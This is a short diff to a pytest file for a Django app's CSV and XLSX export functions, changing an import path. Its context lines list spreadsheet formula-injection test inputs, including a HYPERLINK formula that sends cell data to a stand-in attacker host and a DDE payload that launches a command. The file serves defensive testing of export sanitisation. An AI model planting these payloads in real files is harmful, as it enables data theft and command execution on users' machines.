@@ -9,7 +9,7 @@ import io
 import pytest
 from django.urls import reverse
 
-from pollwatch.operations.exports import csv_stream, xlsx_file
+from pollwatch.web.downloads import csv_stream, xlsx_file
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
